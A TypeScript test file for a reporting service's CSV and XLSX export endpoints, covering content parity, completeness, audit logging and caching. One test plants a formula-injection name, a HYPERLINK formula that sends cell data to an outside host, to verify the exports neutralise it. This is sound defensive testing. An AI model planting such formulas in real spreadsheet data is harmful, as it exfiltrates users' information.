import assert from "node:assert/strict";
import { test, type TestContext } from "node:test";
import { parse } from "csv-parse/sync";
import { read, utils } from "xlsx";
import * as schema from "@packages/db/ops";
import { and, eq, isNull } from "drizzle-orm";
import type { components } from "@services/api/client";
import { startApp, type Client, type TestApp } from "./support/app.ts";
import { ask } from "./support/ask.ts";
import { bothEntities } from "./support/entities.ts";

type Schemas = components["schemas"];

async function start(t: TestContext): Promise<{ app: TestApp; analyst: Client }> {
  const app = await startApp(t, { fill: bothEntities });
  return { app, analyst: await app.as({ IONS: "analyst" }) };
}

/** The lines of both files of an export, headings first; that the two say the same is part of it. */
async function linesOf(client: Client, path: string): Promise<string[][]> {
  const [csv, xlsx] = await Promise.all(["csv", "xlsx"].map((format) => client.get(`${path}&format=${format}`)));
  assert.ok(csv && xlsx);
  assert.deepEqual([csv.status, xlsx.status], [200, 200]);
  assert.equal(csv.headers.get("content-type"), "text/csv; charset=utf-8");
  assert.match(csv.headers.get("content-disposition") ?? "", /^attachment; filename="IONS-[\w.+-]+\.csv"$/);
  assert.match(csv.headers.get("cache-control") ?? "", /no-store/);
  const lines = parse(Buffer.from(await csv.arrayBuffer()), { bom: true });
  const book = read(Buffer.from(await xlsx.arrayBuffer()));
  const sheet = book.Sheets[book.SheetNames[0] ?? ""] ?? {};
  const cells = utils.sheet_to_json<unknown[]>(sheet, { header: 1, raw: true, defval: "", blankrows: true });
  const plain = (value: unknown) => String(value).replace(/^'/, "");
  const headings = lines[0] ?? [];
  for (const [index, line] of lines.entries()) {
    for (const [place, value] of line.entries()) {
      const found = cells[index]?.[place] ?? "";
      // A day is a number in the one file, and a text in the other.
      if (/^\d{4}-\d{2}-\d{2}$/.test(value)) assert.equal(typeof found, "number", headings[place]);
      else assert.equal(plain(found), plain(value), headings[place]);
    }
  }
  return lines;
}

test("a section's file has what its page shows, in its order, with totals", async (t) => {
  const { analyst } = await start(t);
  const query = { entity: "IONS", year: "2025", month: "All months", unit: ["WLC", "TM"], sort: "-net_revenue" };
  const page = await ask<Schemas["RevenueReport"]>(analyst, "/reports/revenue", query);
  const path = "/reports/revenue/export?entity=IONS&year=2025&month=All+months&unit=WLC&unit=TM&sort=-net_revenue";
  const [headings, ...lines] = await linesOf(analyst, path);
  const expected = [
    ...page.units.flatMap(({ unit, rows, total }) => [
      ...rows.map((row) => [unit.code, row.key, row.measures.net_revenue.actual]),
      [unit.code, "ALL", total.net_revenue.actual],
    ]),
    ["", "ALL", page.total.net_revenue?.actual],
  ];
  assert.deepEqual(
    lines.map((line) => [line[0], line[2], Number(line[4])]),
    expected,
  );
  assert.deepEqual(headings?.slice(0, 6), [
    "Unit code",
    "Unit",
    "Code",
    "Programme",
    "Net revenue",
    "Net revenue, target",
  ]);
  const [indonesian] = await linesOf(analyst, `${path}&language=id`);
  assert.deepEqual(indonesian?.slice(3, 6), ["Program", "Pendapatan bersih", "Pendapatan bersih, target"]);
});

test("the file of rows has all of them, and of records all pages", async (t) => {
  const { app, analyst } = await start(t);
  const query = {
    entity: "IONS",
    year: "2025",
    month: "All months",
    measure: "net_revenue",
    limit: "500",
    sort: "date",
  };
  const page = await ask<Schemas["RowsBehind"]>(analyst, "/reports/revenue/rows", query);
  assert.equal(page.next_cursor, null);
  const [, ...rows] = await linesOf(
    analyst,
    "/reports/revenue/rows/export?entity=IONS&year=2025&month=All+months&measure=net_revenue&sort=date",
  );
  assert.deepEqual(
    rows.map((line) => [line[1], Number(line[2])]),
    page.rows.map(({ date, value }) => [date, value]),
  );
  // More than are read at once.
  const { orm } = app.ops;
  const visible = and(eq(schema.db_person.entity_id, "IONS"), isNull(schema.db_person.to_release));
  const [one] = await orm.select().from(schema.db_person).where(visible).limit(1);
  assert.ok(one);
  for (let begin = 0; begin < 1200; begin += 100) {
    await orm
      .insert(schema.db_person)
      .values(Array.from({ length: 100 }, (_, index) => ({ ...one, id: `made-${begin + index}` })));
  }
  const { rows: everybody } = await app.ops.client.execute(
    "select count(*) as n from db_person where entity_id = 'IONS' and to_release is null",
  );
  const [headings, ...people] = await linesOf(analyst, "/records/people/export?entity=IONS&sort=-last_date");
  assert.equal(people.length, Number(everybody[0]?.["n"]));
  assert.equal(new Set(people.map(([id]) => id)).size, people.length);
  assert.deepEqual(headings?.slice(0, 5), ["ID", "Name", "Student number", "Telephone", "E-mail"]);
  const dates = people.map((line) => line[headings.indexOf("Last date")] ?? "");
  assert.deepEqual(dates, dates.toSorted().reverse());
  const filtered = await linesOf(analyst, "/records/people/export?entity=IONS&q=zzzz");
  assert.equal(filtered.length, 1);
  const schools = await linesOf(analyst, "/records/organizations/export?entity=IONS");
  assert.ok(schools.length > 1);
});

test("a name that a spreadsheet would compute is no formula in either file", async (t) => {
  const { app, analyst } = await start(t);
  const evil = '=HYPERLINK("http://example.org/?"&A1,"Siti")';
  const row = and(eq(schema.db_person.entity_id, "IONS"), isNull(schema.db_person.to_release));
  await app.ops.orm
    .update(schema.db_person)
    .set({ full_name: evil, guardian_name: "＝1+1", email: "@SUM(1)" })
    .where(row);
  const csv = await (await analyst.get("/records/people/export?entity=IONS&format=csv")).text();
  for (const line of parse(csv, { bom: true }).slice(1)) {
    for (const cell of line) assert.doesNotMatch(cell, /^[=+\-@＝]/, cell);
    assert.equal(line[1], `'${evil}`);
  }
  const book = read(
    Buffer.from(await (await analyst.get("/records/people/export?entity=IONS&format=xlsx")).arrayBuffer()),
  );
  for (const [name, cell] of Object.entries(book.Sheets[book.SheetNames[0] ?? ""] ?? {})) {
    if (name.startsWith("!")) continue;
    const { f, v, t: type } = cell as { f?: string; v: unknown; t: string };
    assert.equal(f, undefined);
    if (type === "s") assert.doesNotMatch(String(v).replace(/^\+\d+$/, ""), /^[=+\-@＝]/);
  }
});

test("an export is in the audit trail, and kept in no cache", async (t) => {
  const { app, analyst } = await start(t);
  await (await analyst.get("/records/people/export?entity=IONS&format=csv&q=dewi")).arrayBuffer();
  await (await analyst.get("/records/people?entity=IONS&q=dewi")).arrayBuffer();
  await app.api.services.audit.flush();
  const { rows } = await app.accounts.client.execute(
    "select kind, route, subject from audit_event where kind in ('export', 'record_list')",
  );
  assert.deepEqual(
    rows.map(({ kind, route }) => [kind, route]),
    [
      ["export", "/records/people/export"],
      ["record_list", "/records/people"],
    ],
  );
  assert.doesNotMatch(JSON.stringify(rows), /dewi/);
});

test("a section is sent anew only where something has changed", async (t) => {
  const { app, analyst } = await start(t);
  for (const path of [
    "/dashboard/overview?entity=IONS",
    "/reports/schools?entity=IONS&month=Q1",
    "/reports/revenue/rows?entity=IONS&measure=net_revenue",
  ]) {
    const first = await analyst.get(path);
    const etag = first.headers.get("etag") ?? "";
    assert.match(etag, /^"[\w-]+"$/);
    assert.equal(first.headers.get("cache-control"), "private, no-cache");
    const second = await analyst.get(path, { "if-none-match": etag });
    assert.deepEqual([second.status, await second.text(), second.headers.get("etag")], [304, "", etag]);
    const executive = await app.as({ IONS: "executive" });
    assert.equal((await executive.get(path, { "if-none-match": etag })).status, 200);
    const other = await app.as({ EPN: "analyst" });
    assert.equal((await other.get(path, { "if-none-match": etag })).status, 404);
    assert.equal((await app.stranger.get(path, { "if-none-match": etag })).status, 401);
  }
});
